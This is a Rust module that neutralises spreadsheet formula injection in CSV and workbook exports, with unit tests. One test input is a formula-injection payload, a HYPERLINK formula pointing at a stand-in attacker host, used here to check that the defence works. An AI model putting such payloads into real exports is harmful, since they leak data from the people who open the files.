//! Spreadsheet formula injection (issue 18 §5, security review M6): a cell whose text begins
//! with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel and LibreOffice as a
//! formula, which can compute, or leak neighbouring cells through `HYPERLINK` or `WEBSERVICE`.
//! OWASP's « CSV Injection » advice: prefix such a cell with `'`, which both spreadsheets take
//! as « this is text ». Every CSV and workbook passeport writes goes through [`is_formula_like`]
//! and [`neutralise`]; the official ADF/JDR files, whose bytes the platform reads, refuse such a
//! value instead (`Declaration::validate`, `bulk::write`). Pure, no I/O.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula when they begin it.
pub const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether a spreadsheet would read `value` as a formula: it begins with one of [`TRIGGERS`] and
/// is not a plain negative number (`-25`, `-1.5`), which a spreadsheet reads as that number.
pub fn is_formula_like(value: &str) -> bool {
    value.starts_with(TRIGGERS) && !is_negative_number(value)
}

/// `-` then digits, with at most one decimal point or comma between digits.
fn is_negative_number(value: &str) -> bool {
    let Some(number) = value.strip_prefix('-') else {
        return false;
    };
    let (whole, fraction) = match number.split_once(['.', ',']) {
        Some((whole, fraction)) => (whole, Some(fraction)),
        None => (number, None),
    };
    let digits = |part: &str| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit());
    digits(whole) && fraction.is_none_or(digits)
}

/// `value` as a cell that no spreadsheet computes: prefixed with `'` when [`is_formula_like`],
/// else unchanged.
pub fn neutralise(value: &str) -> Cow<'_, str> {
    if is_formula_like(value) {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_spreadsheet_would_compute_is_prefixed() {
        for (value, written) in [
            ("=1+1", "'=1+1"),
            (
                "=HYPERLINK(\"http://evil.example/?x\";\"SST\")",
                "'=HYPERLINK(\"http://evil.example/?x\";\"SST\")",
            ),
            ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("-", "'-"),
            ("--", "'--"),
            ("-1.", "'-1."),
            ("-x", "'-x"),
        ] {
            assert!(is_formula_like(value), "{value:?}");
            assert_eq!(neutralise(value), written, "{value:?}");
        }
    }

    #[test]
    fn ordinary_text_and_negative_numbers_are_kept() {
        for value in [
            "",
            "Jean-Pierre",
            "DUPONT",
            "A=B",
            " =1",
            "-25",
            "-1.5",
            "-1,5",
            "2026-03-02",
            "'=déjà neutre",
        ] {
            assert!(!is_formula_like(value), "{value:?}");
            assert_eq!(neutralise(value), value);
        }
    }
}
